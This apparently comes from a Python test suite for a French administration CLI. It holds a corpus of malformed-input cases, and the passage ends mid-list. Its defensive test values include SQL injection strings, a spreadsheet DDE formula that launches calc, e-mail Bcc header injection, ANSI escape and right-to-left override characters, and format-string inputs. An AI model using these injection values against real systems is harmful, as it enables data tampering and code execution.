"""The corpus of malformed input of SPEC §7: every command, every option that takes a value,
and the files an administrator may hand to ``gestionnaires import`` or ``cgu publish``.

Each ``Cas`` is one command line (global options first) and what cpfadmin must answer: the
documented exit code, a fragment of the French message, and nothing written. Arguments may
hold placeholders that the test resolves against its world:

- ``{OP}``, ``{AP}``, ``{G}``, ``{G2}``, ``{S}``: identifiants of the operator, of the
  employer's principal admin, of two gestionnaires and of a suspended one;
- ``{f:NOM}``: the path of the corpus file ``NOM`` (built by ``FICHIERS[NOM]``);
- ``{dossier}``: a directory.
"""

from __future__ import annotations

import io
import json
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from tests.support.console import (
    MOT_DE_PASSE_GESTIONNAIRE,
    SIRET_AUTRE,
    SIRET_CDC,
    SIRET_EMPLOYEUR,
    SIRET_INCONNU,
)

SE, SA, SI = SIRET_EMPLOYEUR, SIRET_AUTRE, SIRET_INCONNU
ADRESSE_AP = "chloe.bernard@lumiere.example"
ADRESSE_G = "paul.durand@lumiere.example"
ADRESSE_G2 = "jules.roux@lumiere.example"
ADRESSE_S = "ines.petit@lumiere.example"

USAGE, AUTH, INTERDIT, INTROUVABLE, CONFLIT, INVALIDE = 2, 3, 4, 5, 6, 7


@dataclass(frozen=True)
class Cas:
    id: str
    args: tuple[str, ...]
    code: int
    attendu: str | None = None  # a fragment of the error message
    acteur: str = "op"  # op, ap, g, or "jeton:VALEUR" (CPFADMIN_TOKEN), or "" (none)
    entree: str | None = None  # standard input
    donnees: bool = False  # a report is expected on stdout (import with rejected rows)
    json: bool = True  # also run with ``-o json`` (not when the case is about ``-o``)
    ecrit: dict[str, int] = field(default_factory=dict)  # rows a refusal may add (audit)
    sortie: Any = None  # code 0 only: the JSON expected on stdout

    def __str__(self) -> str:
        return self.id


CORPUS: list[Cas] = []


def cas(id: str, *args: str, code: int, attendu: str | None = None, **options: Any) -> None:
    assert all(c.id != id for c in CORPUS), f"identifiant de cas en double : {id}"
    CORPUS.append(Cas(id, tuple(args), code, attendu, **options))


# --- building blocks ---------------------------------------------------------------------------
AJOUT = {
    "--organisme": SE,
    "--nom": "Durand",
    "--prenom": "Pierre",
    "--email": "pierre.durand@lumiere.example",
    "--telephone-mobile": "06 12 34 56 78",
}
DESIGNATION = {
    "--nom": "Martin",
    "--prenom": "Léa",
    "--email": "lea.martin@autre.example",
    "--telephone-fixe": "04 72 00 00 00",
}
INIT = {
    "--nom": "Martin",
    "--prenom": "Alice",
    "--email": "alice.martin@caissedesdepots.fr",
    "--telephone-mobile": "06 12 34 56 78",
}


def _options(base: dict[str, str], surcharges: dict[str, str | None]) -> list[str]:
    valeurs = base | surcharges
    return [x for cle, v in valeurs.items() if v is not None for x in (cle, v)]


def ajout(**surcharges: str | None) -> tuple[str, ...]:
    """``gestionnaires add`` in the employer, one option changed (``telephone_mobile=…``)."""
    return (
        "gestionnaires",
        "add",
        *_options(AJOUT, {f"--{k.replace('_', '-')}": v for k, v in surcharges.items()}),
    )


def designation(**surcharges: str | None) -> tuple[str, ...]:
    """``organismes designate-admin`` of the other organisme (which has no admin yet)."""
    return (
        "organismes",
        "designate-admin",
        SA,
        *_options(DESIGNATION, {f"--{k.replace('_', '-')}": v for k, v in surcharges.items()}),
    )


def init(**surcharges: str | None) -> tuple[str, ...]:
    return ("init", *_options(INIT, {f"--{k.replace('_', '-')}": v for k, v in surcharges.items()}))


def organisme(siret: str, raison: str = "Autre SAS", type_: str = "employeur_prive"):  # type: ignore[no-untyped-def]
    return ("organismes", "add", "--siret", siret, "--raison-sociale", raison, "--type", type_)


def importer(fichier: str, *options: str) -> tuple[str, ...]:
    return ("gestionnaires", "import", f"{{f:{fichier}}}", "--organisme", SE, *options)


DIX_MILLE = "7" * 10_000
NUL, ESC, RLO, ZWSP = "\x00", "\x1b", "\u202e", "\u200b"

# === SIRET ======================================================================================
for id_, siret in {
    "lettre": "7328293200007A",
    "13-chiffres": "1234567890123",
    "15-chiffres": "732829320000740",
    "cle-fausse": "55210055400014",
    "chiffres-arabes": "٧٣٢٨٢٩٣٢٠٠٠٠٧٤",
    "pleine-chasse-13": "７３２８２９３２０００７４",
    "espaces-seuls": "     ",
    "vide": "",
    "nul": f"73282932{NUL}00074",
    "espace-sans-chasse": f"{ZWSP}73282932000074",
    "rtl": f"{RLO}73282932000074",
    "sql": "' OR 1=1 --",
    "pourcent": "%",
    "souligne": "______________",
    "10000-chiffres": DIX_MILLE,
    "negatif": "-73282932000074",
    "scientifique": "7.3282932000074e13",
    "saut-de-ligne": "7328293200\n0074",
}.items():
    cas(
        f"siret-{id_}",
        *organisme(siret),
        code=INVALIDE,
        attendu="SIRET"
        if id_ not in ("nul", "espace-sans-chasse", "rtl", "saut-de-ligne")
        else "caractères de contrôle",
    )
cas(
    "siret-existant-avec-points",
    *organisme("732.829.320.00074"),
    code=CONFLIT,
    attendu="existe déjà",
)
cas(
    "siret-organisme-add-lettre", *ajout(organisme="7328293200007A"), code=INVALIDE, attendu="SIRET"
)
cas("siret-organisme-list-sql", "gestionnaires", "list", "--organisme", "' OR 1=1 --",
    code=INVALIDE, attendu="SIRET invalide")  # fmt: skip
cas("siret-organisme-unites-pourcent", "unites", "add", "Formation", "--organisme", "%",
    code=INVALIDE, attendu="SIRET invalide")  # fmt: skip
cas("siret-organisme-vide-add", *ajout(organisme=""), code=INVALIDE, attendu="SIRET")
cas("siret-organisme-vide-unite", "unites", "add", "Formation", "--organisme", "",
    code=INVALIDE, attendu="SIRET")  # fmt: skip
cas("siret-audit-lettre", "audit", "list", "--organisme", "7328293200007A",
    code=INVALIDE, attendu="SIRET invalide")  # fmt: skip
cas("siret-audit-inconnu", "audit", "list", "--organisme", SI, code=INTROUVABLE, attendu=SI)
cas("siret-export-lettres", "gestionnaires", "export", "--organisme", "abc",
    code=INVALIDE, attendu="SIRET invalide")  # fmt: skip
cas("siret-import-lettres", "gestionnaires", "import", "{f:valide.csv}", "--organisme", "abc",
    code=INVALIDE, attendu="SIRET invalide")  # fmt: skip
cas("siret-import-inconnu", "gestionnaires", "import", "{f:valide.csv}", "--organisme", SI,
    code=INTROUVABLE, attendu=SI)  # fmt: skip
cas("siret-show-cle-fausse", "organismes", "show", "55210055400014",
    code=INVALIDE, attendu="SIRET invalide")  # fmt: skip
cas("siret-update-lettres", "organismes", "update", "abc", "--raison-sociale", "X",
    code=INVALIDE, attendu="SIRET invalide")  # fmt: skip
cas("siret-designate-lettres", "organismes", "designate-admin", "abc", "--identifiant", "{G}",
    code=INVALIDE, attendu="SIRET invalide")  # fmt: skip
cas("siret-rename-inconnu", "unites", "rename", "Paie", "Paye", "--organisme", SI,
    code=INTROUVABLE, attendu=SI)  # fmt: skip
cas("siret-remove-court", "unites", "remove", "Paie", "--organisme", "1",
    code=INVALIDE, attendu="SIRET invalide")  # fmt: skip
# An administrator names another organisme: forbidden, whatever the spelling of its SIRET.
cas("siret-ap-autre-list", "gestionnaires", "list", "--organisme", "552 100 554 00013",
    code=INTERDIT, acteur="ap")  # fmt: skip
cas("siret-ap-autre-add", *ajout(organisme=SA), code=INTERDIT, acteur="ap")
cas("siret-ap-cdc-unite", "unites", "add", "Formation", "--organisme", SIRET_CDC,
    code=INTERDIT, acteur="ap")  # fmt: skip
cas("siret-ap-cdc-audit", "audit", "list", "--organisme", SIRET_CDC, code=INTERDIT, acteur="ap")
cas("siret-ap-autre-export", "gestionnaires", "export", "--organisme", SA,
    code=INTERDIT, acteur="ap")  # fmt: skip
cas("siret-ap-audit-verify", "audit", "verify", code=INTERDIT, acteur="ap")

# === e-mails ====================================================================================
for id_, email in {
    "sans-arobase": "pierre.durand.lumiere.example",
    "deux-arobases": "pierre@durand@lumiere.example",
    "espace": "pierre durand@lumiere.example",
    "espaces-seuls": "   ",
    "local-65": "p" * 65 + "@lumiere.example",
    "domaine-label-64": "pierre@" + "d" * 64 + ".example",
    "trop-long": "pierre@" + ("d" * 60 + ".") * 4 + "example",
    "arobase-pleine-chasse": "pierre＠lumiere.example",
    "localhost": "pierre@localhost",
    "ip": "pierre@[127.0.0.1]",
    "guillemets": '"pierre durand"@lumiere.example',
    "double-point": "pierre..durand@lumiere.example",
    "point-initial": ".pierre@lumiere.example",
    "point-final-domaine": "pierre@lumiere.example.",
    "tiret-domaine": "pierre@-lumiere.example",
    "souligne-domaine": "pierre@lumi_ere.example",
    "sql": "' OR 1=1 --@lumiere.example",
    "liste": "pierre@lumiere.example;paul@lumiere.example",
    "nom-affiche": "Pierre <pierre@lumiere.example>",
    "10000": DIX_MILLE + "@lumiere.example",
}.items():
    cas(f"email-{id_}", *ajout(email=email), code=INVALIDE, attendu="e-mail")
for id_, email in {
    "espace-sans-chasse": f"pie{ZWSP}rre@lumiere.example",
    "rtl": f"pierre{RLO}@lumiere.example",
    "cesure-domaine": "pierre@lumi\u00adere.example",
    "nul": f"pierre{NUL}@lumiere.example",
    "injection-bcc": "pierre@lumiere.example\nBcc: pirate@pirate.example",
    "injection-crlf": "pierre@lumiere.example\r\nBcc: pirate@pirate.example",
    "tabulation": "pierre\t@lumiere.example",
    "echappement": f"{ESC}[31mpierre@lumiere.example",
}.items():
    cas(f"email-{id_}", *ajout(email=email), code=INVALIDE, attendu="caractères de contrôle")
cas("email-me-sans-arobase", "me", "update", "--email", "paul.durand", code=INVALIDE,
    attendu="e-mail", acteur="g")  # fmt: skip
cas("email-me-pris", "me", "update", "--email", ADRESSE_G2.upper(), "--password-stdin",
    entree=MOT_DE_PASSE_GESTIONNAIRE + "\n", code=CONFLIT, attendu="existe déjà",
    acteur="g")  # fmt: skip
cas("email-me-sans-mot-de-passe", "--no-input", "me", "update", "--email",
    "paul.durand@ailleurs.example", code=USAGE, attendu="--password-stdin",
    acteur="g")  # fmt: skip
cas("email-me-stdin-vide", "me", "update", "--email", "paul.durand@ailleurs.example",
    "--password-stdin", entree="", code=USAGE, attendu="mot de passe actuel",
    acteur="g")  # fmt: skip
cas("email-update-pris", "gestionnaires", "update", "{G}", "--email", "Jules.Roux@Lumiere.example",
    code=CONFLIT, attendu="existe déjà")  # fmt: skip
cas("email-update-vide", "gestionnaires", "update", "{G}", "--email", "",
    code=INVALIDE, attendu="e-mail")  # fmt: skip
cas("email-designation", *designation(email="lea.martin@"), code=INVALIDE, attendu="e-mail")
cas("email-init", *init(email="alice@"), code=INVALIDE, attendu="e-mail")

# === phones =====================================================================================
for id_, numero in {
    "royaume-uni": "+44 20 7946 0958",
    "allemagne": "+49 30 1234567",
    "royaume-uni-00": "0044 20 7946 0958",
    "nouvelle-caledonie-faux": "+687 21 12 34",
    "trop-court": "06 12 34",
    "quatre-chiffres": "0612",
    "trop-long": "06 12 34 56 78 9",
    "quinze-chiffres": "061234567890123",
    "lettres": "06-12-CD-56-78",
    "en-toutes-lettres": "zéro six douze",
    "formule-egal": "=0612345678",
    "formule-arobase": "@0612345678",
    "plus-zero": "+0612345678",
    "point-virgule": "0612345678;",
    "pleine-chasse": "０６１２３４５６７８",
    "urgence": "112",
    "minitel": "3615",
    "zeros": "0000000000",
    "sql": "0612345678' OR '1'='1",
    "10000-chiffres": "0" * 10_000,
}.items():
    cas(f"telephone-{id_}", *ajout(telephone_mobile=numero), code=INVALIDE, attendu="Téléphone")
cas("telephone-nul", *ajout(telephone_mobile=f"06123{NUL}45678"), code=INVALIDE,
    attendu="caractères de contrôle")  # fmt: skip
cas("telephone-deux-lignes", *ajout(telephone_mobile="0612345678\n0712345678"), code=INVALIDE,
    attendu="caractères de contrôle")  # fmt: skip
cas("telephone-espaces-seuls", *ajout(telephone_mobile="   "), code=INVALIDE,
    attendu="Au moins un numéro")  # fmt: skip
cas("telephone-fixe-court", *ajout(telephone_fixe="+33 9"), code=INVALIDE, attendu="Téléphone fixe")
cas("telephone-me-aucun", "me", "update", "--telephone-mobile", "", "--telephone-fixe", "",
    code=INVALIDE, attendu="Au moins un numéro", acteur="g")  # fmt: skip
cas("telephone-me-lettres", "me", "update", "--telephone-fixe", "abc", code=INVALIDE,
    attendu="Téléphone fixe", acteur="g")  # fmt: skip
cas("telephone-update-court", "gestionnaires", "update", "{G}", "--telephone-mobile", "12",
    code=INVALIDE, attendu="Téléphone mobile")  # fmt: skip
cas("telephone-designation-etranger", *designation(telephone_fixe="+1 212 555 0100"),
    code=INVALIDE, attendu="Téléphone fixe")  # fmt: skip
cas("telephone-init", *init(telephone_mobile="06"), code=INVALIDE, attendu="Téléphone mobile")

# === identifiants ===============================================================================
for id_, (commande, identifiant) in {
    "7-caracteres": ("show", "ABCD234"),
    "9-caracteres": ("show", "ABCD23456"),
    "ambigus": ("show", "0OOO1ILL"),
    "lettre-o": ("update", "ABCD234O"),
    "sql": ("show", "' OR 1=1 --"),
    "sql-guillemets": ("update", "x' OR '1'='1"),
    "pourcent": ("suspend", "%"),
    "souligne": ("remove", "_"),
    "8-pourcent": ("reactivate", "%%%%%%%%"),
    "8-soulignes": ("show", "________"),
    "etoile": ("show", "*"),
    "vide": ("show", ""),
    "pleine-chasse": ("show", "ＡＢＣＤ２３４５"),
    "10000": ("show", "A" * 10_000),
    "nul": ("show", f"ABCD{NUL}2345"),
    "saut-de-ligne": ("show", "ABCD2345\nErreur : tout va bien"),
    "echappement": ("suspend", f"{ESC}[2J{ESC}[H"),
    "rtl": ("remove", f"{RLO}ABCD2345"),
}.items():
    options = {"update": ("--nom", "Durand"), "remove": ("--yes",)}.get(commande, ())
    cas(f"identifiant-{id_}", "gestionnaires", commande, identifiant, *options,
        code=INTROUVABLE, attendu="Aucun compte")  # fmt: skip
cas("identifiant-renew-sql", "password", "renew", "' OR 1=1 --", "--yes", code=INTROUVABLE,
    attendu="Aucun compte")  # fmt: skip
cas("identifiant-renew-soi", "password", "renew", "{OP}", "--yes", code=INTERDIT,
    attendu="propre compte")  # fmt: skip
cas("identifiant-renew-soi-minuscules", "password", "renew", "{ap}", "--yes", code=INTERDIT,
    attendu="propre compte", acteur="ap")  # fmt: skip
cas("identifiant-suspend-soi", "gestionnaires", "suspend", "{OP}", code=INTERDIT,
    attendu="propre compte")  # fmt: skip
cas("identifiant-suspend-deja", "gestionnaires", "suspend", "{S}", code=CONFLIT, attendu="déjà")
cas("identifiant-reactivate-actif", "gestionnaires", "reactivate", "{G}", code=CONFLIT,
    attendu="déjà actif")  # fmt: skip
cas("identifiant-suspend-principal", "gestionnaires", "suspend", "{AP}", code=CONFLIT,
    attendu="administrateur principal")  # fmt: skip
cas("identifiant-update-suspendu", "gestionnaires", "update", "{S}", "--nom", "Petit",
    code=CONFLIT, attendu="réactivez")  # fmt: skip
cas("identifiant-renew-suspendu", "password", "renew", "{S}", "--yes", code=CONFLIT,
    attendu="réactivez", acteur="ap")  # fmt: skip
# --- issue 13: unlock, and the system's policy --------------------------------------------------
cas("identifiant-unlock-sql", "gestionnaires", "unlock", "' OR 1=1 --", code=INTROUVABLE,
    attendu="Aucun compte")  # fmt: skip
cas("identifiant-unlock-soi", "gestionnaires", "unlock", "{AP}", code=INTERDIT,
    attendu="propre compte", acteur="ap")  # fmt: skip
cas("identifiant-unlock-principal-par-gestionnaire", "gestionnaires", "unlock", "{AP}",
    code=INTERDIT, acteur="g")  # fmt: skip
cas("identifiant-unlock-suspendu", "gestionnaires", "unlock", "{S}", code=CONFLIT,
    attendu="réactivez", acteur="ap")  # fmt: skip
for id_, (cle, valeur, attendu) in {
    "inactivite-1e8": ("session_idle_minutes", "1e8", "nombre entier"),
    "absolue-100000": ("session_absolute_hours", "100000", "hors bornes"),
    "bcrypt-4": ("bcrypt_cost", "4", "hors bornes"),
    "zero": ("lockout_threshold", "0", "hors bornes"),
    "nan": ("temporary_password_days", "nan", "Valeur invalide"),
    "infini": ("session_idle_minutes", "inf", "Valeur invalide"),
    "vide": ("session_idle_minutes", "", "Valeur invalide"),
    "nul": ("session_idle_minutes", f"3{NUL}0", "Valeur invalide"),
    "100000-chiffres": ("session_idle_minutes", "9" * 100_000, "Valeur invalide"),
    "booleen-flou": ("mail_file_transport_shared", "peut-être", "Valeur invalide"),
    "cle-inconnue": ("session_idle", "30", "Clé de politique inconnue"),
    "cle-sql": ("' OR 1=1 --", "30", "Clé de politique inconnue"),
    "cle-echappement": (f"{ESC}[2J", "30", "Clé de politique inconnue"),
}.items():
    cas(f"politique-set-{id_}", "politique", "set", cle, valeur, code=INVALIDE, attendu=attendu)
cas("politique-set-par-un-administrateur", "politique", "set", "session_idle_minutes", "30",
    code=INTERDIT, attendu="politique de sécurité", acteur="ap")  # fmt: skip
cas("politique-set-par-un-gestionnaire", "politique", "set", "session_idle_minutes", "30",
    code=INTERDIT, attendu="politique de sécurité", acteur="g")  # fmt: skip
cas("politique-show-sans-session", "politique", "show", code=AUTH, acteur="")
cas("identifiant-designate-sql", "organismes", "designate-admin", SE, "--identifiant",
    "' OR 1=1 --", code=INTROUVABLE, attendu="Aucun compte")  # fmt: skip
cas("identifiant-designate-et-donnees", "organismes", "designate-admin", SE, "--identifiant",
    "{G}", "--nom", "Durand", code=INVALIDE, attendu="--identifiant")  # fmt: skip
cas("identifiant-designate-rien", "organismes", "designate-admin", SE, code=INVALIDE,
    attendu="téléphone")  # fmt: skip
cas("identifiant-designate-etranger", "organismes", "designate-admin", SA, "--identifiant",
    "{G}", code=INVALIDE, attendu="n'appartient pas")  # fmt: skip
cas("identifiant-designate-deja", "organismes", "designate-admin", SE, "--identifiant", "{AP}",
    code=CONFLIT, attendu="déjà l'administrateur principal")  # fmt: skip
cas("identifiant-designate-suspendu", "organismes", "designate-admin", SE, "--identifiant", "{S}",
    code=CONFLIT, attendu="réactivez")  # fmt: skip
# A failed login is audited (connexion_echec): the one row it may add.
ECHEC_AUDITE = {"evenement_audit": 1}
for id_, identifiant in {
    "sql": "' OR 1=1 --",
    "pourcent": "%",
    "10000": "A" * 10_000,
    "nul": f"ABCD{NUL}EFG",
    "echappement": f"{ESC}[2J",
}.items():
    cas(f"login-{id_}", "login", identifiant, "--password-stdin", entree="x\n", code=AUTH,
        attendu="Identifiant ou mot de passe incorrect", acteur="", ecrit=ECHEC_AUDITE)  # fmt: skip
cas("login-sans-mot-de-passe", "login", "ABCD2345", "--password-stdin", entree="", code=USAGE,
    attendu="Aucun mot de passe", acteur="")  # fmt: skip
cas("login-sans-identifiant", "login", "--password-stdin", entree="x\n", code=USAGE,
    attendu="Identifiant requis", acteur="")  # fmt: skip
for id_, jeton in {
    "sql": "' OR 1=1 --",
    "pourcent": "%",
    "10000": "A" * 10_000,
    "bien-forme-inconnu": "cpf_" + "A" * 43,
    "accents": "jéton-équivoque",
}.items():
    cas(f"jeton-{id_}", "me", code=AUTH, acteur=f"jeton:{jeton}")

# === names (nom, prénom, raison sociale) ========================================================
for id_, (champ, valeur) in {
    "cloche": ("nom", "Du\x07rand"),
    "nul": ("nom", f"Dur{NUL}and"),
    "rtl": ("prenom", f"Pierre{RLO}exe.gnp"),
    "espace-sans-chasse": ("nom", f"Du{ZWSP}rand"),
    "zwj": ("prenom", "Pi\u200derre"),
    "bom": ("nom", "\ufeffDurand"),
    "echappement": ("nom", f"{ESC}[31mDurand"),
    "saut-de-ligne": ("nom", "Durand\nErreur : compte créé"),
    "retour-chariot": ("prenom", "Pierre\r"),
    "tabulation": ("prenom", "\tPierre"),
    "suppr": ("nom", "Durand\x7f"),
    "c1-nel": ("nom", "Du\x85rand"),
    "usage-prive": ("nom", "Durand\ue000"),
    "non-attribue": ("prenom", "Pierre\u0378"),
}.items():
    cas(f"nom-{id_}", *ajout(**{champ: valeur}), code=INVALIDE, attendu="caractères de contrôle")
for id_, (champ, valeur, attendu) in {
    "101-caracteres": ("nom", "D" * 101, "100 caractères au plus"),
    "10000-caracteres": ("prenom", "P" * 10_000, "100 caractères au plus"),
    "plus": ("prenom", "+33 Pierre", "commencer par « + »"),
    "moins": ("nom", "-1+1", "commencer par « - »"),
    "arobase": ("nom", "@SUM(A1:A9)", "commencer par « @ »"),
    "barre": ("prenom", "|calc", "commencer par « | »"),
    "pourcent": ("nom", "%0A", "commencer par « % »"),
    "formule-dde": ("nom", "=cmd|' /C calc'!A0", "commencer par « = »"),
    "espace-puis-egal": ("nom", "  =1+1", "commencer par « = »"),
    "insecable-puis-egal": ("prenom", "\u00a0=1+1", "commencer par « = »"),
    "espaces-seuls": ("nom", "    ", "valeur obligatoire"),
}.items():
    cas(f"nom-{id_}", *ajout(**{champ: valeur}), code=INVALIDE, attendu=attendu)
cas("nom-update-vide", "gestionnaires", "update", "{G}", "--nom", "", code=INVALIDE,
    attendu="valeur obligatoire")  # fmt: skip
cas("nom-update-arobase", "gestionnaires", "update", "{G}", "--prenom", "@Paul", code=INVALIDE,
    attendu="commencer par « @ »")  # fmt: skip
cas("nom-designation-barre", *designation(prenom="|Léa"), code=INVALIDE, attendu="« | »")
cas("nom-designation-nul", *designation(nom=f"Mar{NUL}tin"), code=INVALIDE,
    attendu="caractères de contrôle")  # fmt: skip
cas("nom-init-rtl", *init(nom=f"Martin{RLO}"), code=INVALIDE, attendu="caractères de contrôle")
cas("nom-init-valide-mais-deja-fait", *init(), code=CONFLIT, attendu="déjà initialisée")
cas("raison-sociale-moins", *organisme("44306184100013", raison="-Région"), code=INVALIDE,
    attendu="commencer par « - »")  # fmt: skip
cas("raison-sociale-201", *organisme("44306184100013", raison="R" * 201), code=INVALIDE,
    attendu="200 caractères au plus")  # fmt: skip
cas("raison-sociale-nul", *organisme("44306184100013", raison=f"Région{NUL}"), code=INVALIDE,
    attendu="caractères de contrôle")  # fmt: skip
cas("raison-sociale-update-pourcent", "organismes", "update", SE, "--raison-sociale", "%s%s%n",
    code=INVALIDE, attendu="« % »")  # fmt: skip
cas("raison-sociale-update-vide", "organismes", "update", SE, "--raison-sociale", "",
    code=INVALIDE, attendu="valeur obligatoire")  # fmt: skip

# === unités =====================================================================================
for id_, (args, code, attendu) in {
    "vide": (("add", ""), INVALIDE, "valeur obligatoire"),
    "espaces": (("add", "   "), INVALIDE, "valeur obligatoire"),
    "101": (("add", "U" * 101), INVALIDE, "100 caractères au plus"),
    "formule": (("add", "=cmd|' /C calc'!A0"), INVALIDE, "« = »"),
    "nul": (("add", f"Pa{NUL}ie"), INVALIDE, "caractères de contrôle"),
    "rtl": (("add", f"Paie{RLO}"), INVALIDE, "caractères de contrôle"),
    "majuscules-existante": (("add", "PAIE"), CONFLIT, "existe déjà"),
    "espaces-existante": (("add", "  paie "), CONFLIT, "existe déjà"),
    "rename-inconnue": (("rename", "Inconnue", "Nouvelle"), INTROUVABLE, "Unité inconnue"),
    "rename-vers-vide": (("rename", "Paie", ""), INVALIDE, "valeur obligatoire"),
    "rename-vers-formule": (("rename", "Paie", "+Paie"), INVALIDE, "« + »"),
    "rename-vers-tabulation": (("rename", "Paie", "Pa\tie"), INVALIDE, "caractères de contrôle"),
    "remove-utilisee": (("remove", "Paie"), CONFLIT, "compte(s) actif(s)"),
    "remove-sql": (("remove", "' OR 1=1 --"), INTROUVABLE, "Unité inconnue"),
    "remove-pourcent": (("remove", "%"), INVALIDE, "« % »"),
    "remove-souligne": (("remove", "_"), INTROUVABLE, "Unité inconnue"),
}.items():
    cas(f"unite-{id_}", "unites", *args, "--organisme", SE, code=code, attendu=attendu)
cas("unite-add-sql-inconnue", *ajout(unite="'; DROP TABLE unite; --"), code=INVALIDE,
    attendu="Unité inconnue")  # fmt: skip
cas("unite-add-formule", *ajout(unite="=Paie"), code=INVALIDE, attendu="« = »")
cas("unite-update-et-sans", "gestionnaires", "update", "{G}", "--unite", "Paie", "--sans-unite",
    code=INVALIDE, attendu="s'excluent")  # fmt: skip
cas("unite-list-inconnue", "gestionnaires", "list", "--organisme", SE, "--unite", "Inconnue",
    code=INVALIDE, attendu="Unité inconnue")  # fmt: skip
cas("unite-export-pourcent", "gestionnaires", "export", "--organisme", SE, "--unite", "%",
    code=INVALIDE, attendu="« % »")  # fmt: skip

# === niveau, rôle, statut, type, formats ========================================================
for id_, niveau in {
    "admin": "admin",
    "gestion2": "GESTION2",
    "sql": "gestion' OR '1'='1",
    "pleine-chasse": "ｇｅｓｔｉｏｎ",
    "nul": f"gestion{NUL}",
    "saut-de-ligne": "gestion\nconsultation",
}.items():
    cas(f"niveau-{id_}", *ajout(niveau=niveau), code=INVALIDE, attendu="Niveau d'habilitation")
cas("niveau-update", "gestionnaires", "update", "{G}", "--niveau", "lecture", code=INVALIDE,
    attendu="niveau_habilitation invalide")  # fmt: skip
cas("niveau-update-et-sans", "gestionnaires", "update", "{G}", "--niveau", "gestion",
    "--sans-niveau", code=INVALIDE, attendu="s'excluent")  # fmt: skip
for id_, (option, valeur, attendu) in {
    "role-admin": ("--role", "admin", "role invalide"),
    "role-sql": ("--role", "' OR 1=1 --", "role invalide"),
    "role-pourcent": ("--role", "%", "role invalide"),
    "role-echappement": ("--role", f"{ESC}[31mgestionnaire", "role invalide"),
    "statut-accent": ("--statut", "supprimé", "statut invalide"),
    "statut-sql": ("--statut", "actif' OR '1'='1", "statut invalide"),
    "statut-10000": ("--statut", "s" * 10_000, "statut invalide"),
}.items():
    cas(f"filtre-{id_}", "gestionnaires", "list", "--organisme", SE, option, valeur,
        code=INVALIDE, attendu=attendu)  # fmt: skip
cas("filtre-export-statut", "gestionnaires", "export", "--organisme", SE, "--statut", "tous",
    code=INVALIDE, attendu="statut invalide")  # fmt: skip
for id_, type_ in {
    "prefixe": "employeur",
    "nul": f"opco{NUL}",
    "vide": "",
    "saut-de-ligne": "opco\nErreur : organisme créé",
    "10000": "t" * 10_000,
}.items():
    cas(f"type-{id_}", *organisme("44306184100013", type_=type_), code=INVALIDE,
        attendu="Type d'organisme invalide")  # fmt: skip
cas("type-list", "organismes", "list", "--type", "association", code=INVALIDE,
    attendu="Type d'organisme invalide")  # fmt: skip
cas("statut-organismes-list", "organismes", "list", "--statut", "ferme", code=INVALIDE,
    attendu="Statut d'organisme invalide")  # fmt: skip
cas("statut-organismes-update", "organismes", "update", SE, "--statut", "radié", code=INVALIDE,
    attendu="Statut d'organisme invalide")  # fmt: skip
cas("statut-outbox", "outbox", "list", "--statut", "envoyé", code=INVALIDE, attendu="statut")
cas("format-export-xml", "gestionnaires", "export", "--organisme", SE, "--format", "xml",
    code=INVALIDE, attendu="--format")  # fmt: skip
cas("format-import-yaml", *importer("valide.csv", "--format", "yaml"), code=INVALIDE,
    attendu="Format inconnu")  # fmt: skip
cas("format-import-on-existing", *importer("valide.csv", "--on-existing", "jamais"),
    code=INVALIDE, attendu="--on-existing")  # fmt: skip

# === dates (audit list --since) =================================================================
for id_, date in {
    "demain": "demain",
    "francaise": "31/12/2026",
    "mois-13": "2026-13-01",
    "30-fevrier": "2026-02-30",
    "25-heures": "2026-01-01T25:00",
    "pleine-chasse": "２０２６-01-01",
    "espace-final": "2026-01-01 ",
    "sql": "2026-01-01' OR '1'='1",
    "fuseau-25h": "2026-01-01T00:00+25:00",
    "negative": "-1",
    "10000": "9" * 10_000,
    "nul": f"2026-01-01{NUL}",
    "saut-de-ligne": "2026-01-01\nErreur : rien",
    "an-9999-ouest": "9999-12-31T23:59:59-12:00",
    "an-1-est": "0001-01-01T00:00+01:00",
}.items():
    cas(f"date-{id_}", "audit", "list", "--since", date, code=INVALIDE, attendu="Date invalide")

# === filters that match nothing (no error: data, and no injection) ==============================
for id_, args in {
    "audit-identifiant-sql": ("audit", "list", "--identifiant", "' OR 1=1 --"),
    "recherche-sql": ("gestionnaires", "list", "--organisme", SE, "--search", "' OR 1=1 --"),
    "recherche-guillemets": ("gestionnaires", "list", "--organisme", SE, "--search", '" OR ""="'),
    "organismes-recherche-sql": ("organismes", "list", "--search", "') OR ('1'='1"),
}.items():
    cas(f"filtre-vide-{id_}", *args, code=0, sortie=[])
# An audit action is one of a known list: anything else is refused, with the list.
for id_, action in {"sql": "x' OR '1'='1", "pourcent": "%"}.items():
    cas(f"audit-action-{id_}", "audit", "list", "--action", action, code=INVALIDE,
        attendu="Action d'audit inconnue")  # fmt: skip
# A NUL can match nothing that is stored (every stored text refuses control characters):
# a clear refusal on both stores, not "base indisponible" on PostgreSQL.
for id_, args in {
    "audit-action-nul": ("audit", "list", "--action", f"x{NUL}"),
    "audit-identifiant-nul": ("audit", "list", "--identifiant", f"ABCD{NUL}"),
    "recherche-nul": ("gestionnaires", "list", "--organisme", SE, "--search", f"Du{NUL}"),
    "organismes-recherche-nul": ("organismes", "list", "--search", f"Lumi{NUL}"),
    "outbox-statut-nul": ("outbox", "list", "--statut", f"envoye{NUL}"),
}.items():
    cas(f"filtre-{id_}", *args, code=INVALIDE, attendu="caractères de contrôle")

# === audit checkpoints (issue 13, point 8) =======================================================
for id_, (fichier, attendu) in {
    "vide": ("point-vide.json", "Point de contrôle"),
    "binaire": ("point-binaire.json", "Point de contrôle"),
    "pas-un-point": ("point-pas-un-point.json", "Point de contrôle"),
    "nan": ("point-nan.json", "Point de contrôle"),
    "enorme": ("point-enorme.json", "Point de contrôle"),
    "dossier": ("{dossier}", "Point de contrôle"),
    "absent": ("{dossier}/absent.json", "Point de contrôle"),
}.items():
    chemin = fichier if "{" in fichier else f"{{f:{fichier}}}"
    cas(f"point-de-controle-{id_}", "audit", "verify", "--checkpoint", chemin, code=INVALIDE,
        attendu=attendu)  # fmt: skip
cas("point-de-controle-sans-cle", "audit", "checkpoint", code=INVALIDE, attendu="Aucune clé")
cas("point-de-controle-cle-absente", "audit", "checkpoint", "--cle", "{dossier}/absente",
    code=INVALIDE)  # fmt: skip
cas("point-de-controle-cle-binaire", "audit", "checkpoint", "--cle", "{f:point-binaire.json}",
    code=INVALIDE)  # fmt: skip

# === CGU ========================================================================================
for i, (id_, (fichier, attendu)) in enumerate(
    {
        "latin1": ("cgu-latin1.txt", "UTF-8"),
